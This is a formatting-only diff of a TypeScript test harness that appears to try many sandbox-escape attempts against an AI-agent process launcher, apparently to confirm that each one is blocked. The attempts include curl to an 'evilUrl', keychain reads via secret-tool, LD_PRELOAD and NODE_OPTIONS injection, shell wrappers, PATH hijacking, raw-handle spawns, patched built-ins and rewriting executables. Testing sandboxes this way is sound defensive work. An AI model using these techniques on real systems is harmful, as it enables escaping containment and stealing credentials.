@@ -69,8 +69,12 @@ const pipe = { stdio: ['ignore', 'pipe', 'ignore'] as childProcess.StdioOptions 
 async function main(): Promise<void> {
   // Before arming: the keychain readers only.
   await attack('pre-arm: curl', () => cp.spawn('curl', ['-s', evilUrl], pipe));
-  await attack('pre-arm: secret-tool lookup', () => cp.spawn('secret-tool', ['lookup', 'service', 'agentdef', 'name', 'KEY'], pipe));
-  await attack('pre-arm: secret-tool store', () => cp.spawn('secret-tool', ['store', '--label=x', 'service', 'agentdef', 'name', 'KEY'], pipe));
+  await attack('pre-arm: secret-tool lookup', () =>
+    cp.spawn('secret-tool', ['lookup', 'service', 'agentdef', 'name', 'KEY'], pipe),
+  );
+  await attack('pre-arm: secret-tool store', () =>
+    cp.spawn('secret-tool', ['store', '--label=x', 'service', 'agentdef', 'name', 'KEY'], pipe),
+  );
 
   // The host serves from the MCP server's folder (the local launcher's workspace), as a launcher does.
   process.chdir(mcpDir);
@@ -82,45 +86,91 @@ async function main(): Promise<void> {
 
   // The host's own launches.
   await attack('native tool', () => cp.spawn(tool, [], pipe));
-  await attack('native tool through a link of the same name', () => cp.spawn(path.join(dir, 'links', 'splice-tool'), [], pipe));
+  await attack('native tool through a link of the same name', () =>
+    cp.spawn(path.join(dir, 'links', 'splice-tool'), [], pipe),
+  );
   await attack('quarantined child', () => cp.spawn(process.execPath, [entry, '--child', 'n1'], pipe));
   await attack('mcp server', () => cp.spawn('node', ['server.mjs'], { ...pipe, cwd: mcpDir }));
-  await attack('native tool with a subset of the host environment', () => cp.spawn(tool, [], { ...pipe, env: { PATH: process.env['PATH'] } }));
-  await attack('native tool through execFileSync', () => ({ stdout: cp.execFileSync(tool, [], { stdio: ['ignore', 'pipe', 'ignore'] }) }));
+  await attack('native tool with a subset of the host environment', () =>
+    cp.spawn(tool, [], { ...pipe, env: { PATH: process.env['PATH'] } }),
+  );
+  await attack('native tool through execFileSync', () => ({
+    stdout: cp.execFileSync(tool, [], { stdio: ['ignore', 'pipe', 'ignore'] }),
+  }));
 
   // Their shapes bent.
   await attack('native tool with an argument', () => cp.spawn(tool, ['--evil'], pipe));
   await attack('native tool with argv0', () => cp.spawn(tool, [], { ...pipe, argv0: 'other' }));
   await attack('native tool through a link named curl', () => cp.spawn(path.join(dir, 'links', 'curl'), [], pipe));
   await attack('another executable named like the native tool', () => cp.spawn(fake, [], pipe));
-  await attack('native tool with LD_PRELOAD', () => cp.spawn(tool, [], { ...pipe, env: { ...process.env, LD_PRELOAD: path.join(dir, 'evil.so') } }));
+  await attack('native tool with LD_PRELOAD', () =>
+    cp.spawn(tool, [], { ...pipe, env: { ...process.env, LD_PRELOAD: path.join(dir, 'evil.so') } }),
+  );
   await attack('native tool with a shell', () => cp.spawn(tool, [], { ...pipe, shell: true }));
   await attack('child with -e', () => cp.spawn(process.execPath, ['-e', nodeFetch], pipe));
   await attack('child with -p', () => cp.spawn(process.execPath, ['-p', nodeFetch], pipe));
-  await attack('child with --import', () => cp.spawn(process.execPath, ['--import', `data:text/javascript,${encodeURIComponent(nodeFetch)}`, entry, '--child', 'n1'], pipe));
-  await attack('child with --require', () => cp.spawn(process.execPath, ['--require', path.join(dir, 'preload.cjs'), entry, '--child', 'n1'], pipe));
+  await attack('child with --import', () =>
+    cp.spawn(
+      process.execPath,
+      ['--import', `data:text/javascript,${encodeURIComponent(nodeFetch)}`, entry, '--child', 'n1'],
+      pipe,
+    ),
+  );
+  await attack('child with --require', () =>
+    cp.spawn(process.execPath, ['--require', path.join(dir, 'preload.cjs'), entry, '--child', 'n1'], pipe),
+  );
   await attack('child of another node', () => cp.spawn(process.execPath, [entry, '--child', 'n2'], pipe));
-  await attack('child with NODE_OPTIONS', () => cp.spawn(process.execPath, [entry, '--child', 'n1'], { ...pipe, env: { ...process.env, NODE_OPTIONS: `--require ${path.join(dir, 'preload.cjs')}` } }));
-  await attack('child by a link named node to a shell', () => cp.spawn(path.join(dir, 'links', 'node'), [entry, '--child', 'n1'], pipe));
-  await attack('fork of the child', () => cp.fork(entry, ['--child', 'n1'], { stdio: ['ignore', 'pipe', 'ignore', 'ipc'] }));
-  await attack('mcp server with node first on a PATH of its own', () => cp.spawn('node', ['server.mjs'], { ...pipe, cwd: mcpDir, env: { ...process.env, PATH: `${path.join(dir, 'fake')}:${process.env['PATH']}` } }));
-  await attack('mcp server from another folder', () => cp.spawn('node', ['server.mjs'], { ...pipe, cwd: path.join(dir, 'other') }));
+  await attack('child with NODE_OPTIONS', () =>
+    cp.spawn(process.execPath, [entry, '--child', 'n1'], {
+      ...pipe,
+      env: { ...process.env, NODE_OPTIONS: `--require ${path.join(dir, 'preload.cjs')}` },
+    }),
+  );
+  await attack('child by a link named node to a shell', () =>
+    cp.spawn(path.join(dir, 'links', 'node'), [entry, '--child', 'n1'], pipe),
+  );
+  await attack('fork of the child', () =>
+    cp.fork(entry, ['--child', 'n1'], { stdio: ['ignore', 'pipe', 'ignore', 'ipc'] }),
+  );
+  await attack('mcp server with node first on a PATH of its own', () =>
+    cp.spawn('node', ['server.mjs'], {
+      ...pipe,
+      cwd: mcpDir,
+      env: { ...process.env, PATH: `${path.join(dir, 'fake')}:${process.env['PATH']}` },
+    }),
+  );
+  await attack('mcp server from another folder', () =>
+    cp.spawn('node', ['server.mjs'], { ...pipe, cwd: path.join(dir, 'other') }),
+  );
   await attack('exec of an allowed command line', () => cp.exec(tool));
-  await attack('spawnSync of the child with -e', () => ({ stdout: cp.spawnSync(process.execPath, ['-e', nodeFetch]).stdout }));
+  await attack('spawnSync of the child with -e', () => ({
+    stdout: cp.spawnSync(process.execPath, ['-e', nodeFetch]).stdout,
+  }));
 
   // Raw handles: the Process class of a running child, without an environment list and with values that read differently twice.
   const running = cp.spawn(process.execPath, [entry, '--child', 'n1'], pipe);
-  const Handle = (running as unknown as { _handle: { constructor: new () => { spawn(options: unknown): number; onexit?: unknown } } })._handle.constructor;
+  const Handle = (
+    running as unknown as { _handle: { constructor: new () => { spawn(options: unknown): number; onexit?: unknown } } }
+  )._handle.constructor;
   await attack('raw Process handle: a shell', () => {
     const handle = new Handle();
     handle.onexit = () => undefined;
-    const err = handle.spawn({ file: '/bin/sh', args: ['/bin/sh', '-c', `${JSON.stringify(process.execPath)} -e '${nodeFetch}'`], envPairs: [], stdio: [{ type: 'ignore' }, { type: 'ignore' }, { type: 'ignore' }] });
+    const err = handle.spawn({
+      file: '/bin/sh',
+      args: ['/bin/sh', '-c', `${JSON.stringify(process.execPath)} -e '${nodeFetch}'`],
+      envPairs: [],
+      stdio: [{ type: 'ignore' }, { type: 'ignore' }, { type: 'ignore' }],
+    });
     return { stdout: `spawned ${err}` };
   });
   await attack('raw Process handle: no environment list', () => {
     const handle = new Handle();
     handle.onexit = () => undefined;
-    const err = handle.spawn({ file: tool, args: [tool], stdio: [{ type: 'ignore' }, { type: 'ignore' }, { type: 'ignore' }] });
+    const err = handle.spawn({
+      file: tool,
+      args: [tool],
+      stdio: [{ type: 'ignore' }, { type: 'ignore' }, { type: 'ignore' }],
+    });
     return { stdout: `spawned ${err}` };
   });
   await attack('raw Process handle: a file that reads differently twice', () => {
@@ -141,8 +191,16 @@ async function main(): Promise<void> {
     handle.onexit = () => undefined;
     let reads = 0;
     const envPairs = Object.entries(process.env).map(([k, v]) => `${k}=${v}`);
-    const options = { file: 'node', args: ['node', 'server.mjs'], envPairs, stdio: [{ type: 'ignore' }, { type: 'ignore' }, { type: 'ignore' }] };
-    Object.defineProperty(options, 'cwd', { enumerable: true, get: () => (reads++ === 0 ? undefined : path.join(dir, 'other')) });
+    const options = {
+      file: 'node',
+      args: ['node', 'server.mjs'],
+      envPairs,
+      stdio: [{ type: 'ignore' }, { type: 'ignore' }, { type: 'ignore' }],
+    };
+    Object.defineProperty(options, 'cwd', {
+      enumerable: true,
+      get: () => (reads++ === 0 ? undefined : path.join(dir, 'other')),
+    });
     const err = handle.spawn(options);
     return { stdout: `spawned ${err}` };
   });
@@ -168,7 +226,9 @@ async function main(): Promise<void> {
   (path.posix as { resolve: unknown }).resolve = () => tool;
   (fs as { realpathSync: unknown }).realpathSync = () => tool;
   JSON.stringify = () => '[]';
-  await attack('patched built-ins: a shell', () => cp.spawn('/bin/sh', ['-c', `${process.execPath} -e '${nodeFetch}'`], pipe));
+  await attack('patched built-ins: a shell', () =>
+    cp.spawn('/bin/sh', ['-c', `${process.execPath} -e '${nodeFetch}'`], pipe),
+  );
   await attack('patched built-ins: another executable named like the tool', () => cp.spawn(fake, [], pipe));
   await attack('patched built-ins: native tool', () => cp.spawn(tool, [], pipe));
   Set.prototype.has = realSetHas;
@@ -182,9 +242,13 @@ async function main(): Promise<void> {
   const copy = path.join(dir, 'entry-copy.mjs');
   fs.copyFileSync(entry, copy);
   fs.writeFileSync(entry, `${nodeFetch};\n`);
-  await attack('quarantined child after its entry was rewritten', () => cp.spawn(process.execPath, [entry, '--child', 'n1'], pipe));
+  await attack('quarantined child after its entry was rewritten', () =>
+    cp.spawn(process.execPath, [entry, '--child', 'n1'], pipe),
+  );
   fs.renameSync(copy, entry);
-  await attack('quarantined child after its entry was replaced by its own copy', () => cp.spawn(process.execPath, [entry, '--child', 'n1'], pipe));
+  await attack('quarantined child after its entry was replaced by its own copy', () =>
+    cp.spawn(process.execPath, [entry, '--child', 'n1'], pipe),
+  );
   fs.writeFileSync(tool, evilScript);
   await attack('native tool after it was rewritten', () => cp.spawn(tool, [], pipe));
   for (const result of results) process.stdout.write(`${stringify(result)}\n`);
